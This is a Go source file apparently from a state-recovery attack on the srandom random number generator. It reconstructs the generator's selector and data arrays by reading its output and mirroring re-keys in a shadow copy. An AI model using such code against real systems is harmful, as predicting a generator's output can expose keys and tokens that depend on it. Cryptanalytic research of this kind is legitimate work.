package attack

import (
	"fmt"

	"github.com/bits-and-blooms/bitset"

	"github.com/xor-shift/srandom-break/srandom"
)

// A selector re-key rewrites word i of a group from word i+1 and fresh draws,
// so four re-keys leave nothing of the old selector behind.
const selectorResetRounds = 4

type fillOutcome int

const (
	fillComplete fillOutcome = iota
	// the counter wrapped while selector words shared with a data array were
	// still unknown, continue from the zero position
	fillRestart
)

// ReconstructArrays rebuilds the selector and then every data array.
func (a *Attacker) ReconstructArrays() error {
	if a.shadow.Layout.Narrow {
		return phaseError(PhaseArrays, ErrUnsupportedVariant)
	}

	// takes every data re-key whose target array is not known yet
	scratch := make([]uint64, a.shadow.Layout.ArrayWidth)

	if err := a.resetSelector(scratch); err != nil {
		return phaseError(PhaseArrays, err)
	}

	if err := a.fillArrays(scratch); err != nil {
		return phaseError(PhaseArrays, err)
	}

	return nil
}

// resetSelector drives the oracle through selectorResetRounds counter wraps
// with one-byte reads while the shadow selector takes the same re-keys.
func (a *Attacker) resetSelector(scratch []uint64) error {
	for round := 0; round < selectorResetRounds; round++ {
		for a.shadow.Position++; a.shadow.Position < srandom.PositionLimit; a.shadow.Position++ {
			if err := a.skipRead(scratch); err != nil {
				return err
			}
		}

		if _, err := a.read(1); err != nil {
			return err
		}

		a.shadow.Position = 0
		a.shadow.Rekey(a.shadow.Selector())
		a.shadow.RekeyData(scratch)

		a.log.Debug().Int("round", round).Msg("selector re-keyed")
	}

	a.log.Info().Msg("selector reconstructed")

	return nil
}

// skipToSafePosition moves past the selector words a buggy layout shares with
// data arrays. Reads of those arrays have changed them since the last reset.
func (a *Attacker) skipToSafePosition(scratch []uint64) error {
	for a.shadow.Position < a.shadow.Layout.FirstSafePosition() {
		if err := a.skipRead(scratch); err != nil {
			return err
		}

		a.shadow.Position++
	}

	return nil
}

// fillArrays copies arrays out of the oracle as the selector serves them.
// For buggy layouts a pass is only good if the array overlapping the selector
// was copied before the next counter wrap, otherwise the pass starts over
// from the zero position with nothing counted as filled.
func (a *Attacker) fillArrays(scratch []uint64) error {
	for attempt := 0; attempt <= a.maxFillRestarts; attempt++ {
		if a.shadow.Layout.BuggyShape {
			if err := a.skipToSafePosition(scratch); err != nil {
				return err
			}
		}

		outcome, err := a.fillPass()
		if err != nil {
			return err
		}

		if outcome == fillComplete {
			a.log.Info().Int("restarts", attempt).Msg("arrays reconstructed")
			return nil
		}

		a.log.Warn().Int("attempt", attempt).Msg("counter wrapped before the selector overlap was observed, restarting fill")
	}

	return fmt.Errorf("%w: %d restarts", ErrFillExhausted, a.maxFillRestarts)
}

func (a *Attacker) fillPass() (fillOutcome, error) {
	numArrays := uint(a.shadow.Layout.NumArrays)
	overlapping := numArrays - 1

	filled := bitset.New(numArrays)
	for reads := 0; filled.Count() < numArrays; reads++ {
		if reads >= a.maxFillReads {
			return fillComplete, fmt.Errorf("%w: %d of %d arrays after %d reads", ErrFillExhausted, filled.Count(), numArrays, reads)
		}

		index := a.shadow.NextArrayIndex()
		filled.Set(uint(index))

		words, err := a.readWords(srandom.BlockWords)
		if err != nil {
			return fillComplete, err
		}

		array := a.shadow.Array(index)
		copy(array, words)
		a.shadow.RekeyData(array)
		a.shadow.RekeyData(array)

		a.log.Trace().Int("array", index).Int("position", a.shadow.Position).Msg("array copied")

		if a.shadow.Layout.BuggyShape && a.shadow.Position == 0 && !filled.Test(overlapping) {
			return fillRestart, nil
		}
	}

	return fillComplete, nil
}
